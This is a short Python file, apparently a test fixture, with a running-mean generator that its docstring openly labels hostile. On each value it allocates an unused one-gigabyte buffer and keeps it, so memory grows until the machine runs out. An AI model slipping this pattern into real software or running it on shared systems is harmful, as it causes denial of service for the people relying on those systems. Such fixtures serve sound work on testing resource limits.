"""Hostile: grabs ever more memory while running."""


def running_mean(stream):
    hoard = []
    total = count = 0
    for value in stream:
        hoard.append(bytearray(10**9))
        total += value
        count += 1
        yield total / count
